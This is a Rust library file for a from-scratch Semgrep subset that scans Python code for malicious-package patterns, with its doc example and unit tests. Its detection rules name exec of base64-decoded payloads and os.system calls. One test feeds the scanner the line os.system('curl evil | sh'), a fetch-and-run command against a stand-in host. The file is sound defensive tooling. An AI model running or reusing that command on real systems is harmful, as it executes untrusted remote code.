//! `semgrep-engine` — a from-scratch Semgrep subset.
//!
//! Semgrep rules are YAML documents whose patterns are source-language
//! fragments with metavariables (`$X`) and ellipses (`...`). The paper's
//! RuleLLM emits Semgrep rules for malicious-package *code structure*
//! (§II-B, Table I), and its alignment agent needs a compiler that rejects
//! malformed rules with actionable messages (§IV-C). This crate provides:
//!
//! * [`yaml`] — a mini-YAML parser (mappings, sequences, quoted/plain/
//!   block scalars) sufficient for Semgrep's schema;
//! * [`SemgrepRule`] — the rule schema: `id`, `languages`, `message`,
//!   `severity`, `metadata`, and `pattern` / `patterns` /
//!   `pattern-either` / `pattern-not` operators;
//! * one structural matcher, [`MatchSet`], over the [`pysrc`] AST with
//!   metavariable unification and ellipsis argument matching. Pattern
//!   text is parsed **once at compile time**; the set then matches a
//!   whole ruleset against a module in a single anchor-dispatched AST
//!   walk ([`scan_module`] is the convenience over it).
//!
//! The seed's reparse-per-call matcher is not shipped here: it lives in
//! the dev-only `oracles` crate as the differential oracle, and runs this
//! crate's leaf matcher through the hidden `internals` module.
//!
//! # Examples
//!
//! ```
//! let src = r#"
//! rules:
//!   - id: detect-exec-b64
//!     languages: [python]
//!     message: "exec of base64-decoded payload"
//!     severity: ERROR
//!     pattern: exec(base64.b64decode($X))
//! "#;
//! let rules = semgrep_engine::compile(src)?;
//! let module = pysrc::parse_module("exec(base64.b64decode(data))\n");
//! let findings = semgrep_engine::scan_module(&rules, &module);
//! assert_eq!(findings[0].rule_id, "detect-exec-b64");
//! # Ok::<(), semgrep_engine::SemgrepError>(())
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

mod error;
mod matcher;
mod matchset;
mod rule;
pub mod yaml;

pub use error::SemgrepError;
pub use matcher::Finding;
pub use matchset::{FileMatches, MatchScratch, MatchSet, SemgrepMetrics};
pub use rule::{compile, CompiledSemgrepRules, PatternOp, SemgrepRule, Severity};

/// What the `oracles` crate's reparse-per-call matcher reads, so that it
/// runs the exact leaf matcher [`MatchSet`] runs. Not a stable API.
#[doc(hidden)]
pub mod internals {
    pub use crate::matcher::{encode_metavars, pattern_stmt, stmt_matches, Trees};
}

use pysrc::Module;

/// Scans a parsed Python module with every rule, returning all findings.
///
/// One single AST pass serves all rules (see [`MatchSet`]); findings come
/// out in rule file order, lines ascending within a rule.
///
/// Convenience entry point: the anchor index is rebuilt on every call.
/// Loops scanning many modules against one fixed ruleset should build a
/// [`MatchSet`] once and reuse a [`MatchScratch`], as the hub workers do.
pub fn scan_module(rules: &CompiledSemgrepRules, module: &Module) -> Vec<Finding> {
    let set = MatchSet::new(rules);
    let mut scratch = MatchScratch::new();
    set.match_module_set(module, |_| true, &mut scratch).0
}

/// Convenience: parse `source` and scan it.
pub fn scan_source(rules: &CompiledSemgrepRules, source: &str) -> Vec<Finding> {
    scan_module(rules, &pysrc::parse_module(source))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn end_to_end_scan() {
        let rules = compile(
            r#"
rules:
  - id: os-system
    languages: [python]
    message: "shell command execution"
    severity: WARNING
    pattern: os.system($CMD)
"#,
        )
        .expect("compile");
        let findings = scan_source(&rules, "import os\nos.system('curl evil | sh')\n");
        assert_eq!(findings.len(), 1);
        assert_eq!(findings[0].rule_id, "os-system");
        assert_eq!(findings[0].line, 2);
    }

    #[test]
    fn multiple_rules_scan() {
        let rules = compile(
            r#"
rules:
  - id: a
    languages: [python]
    message: "m"
    severity: INFO
    pattern: eval($X)
  - id: b
    languages: [python]
    message: "m"
    severity: INFO
    pattern: exec($X)
"#,
        )
        .expect("compile");
        let findings = scan_source(&rules, "eval(x)\nexec(y)\n");
        assert_eq!(findings.len(), 2);
    }
}
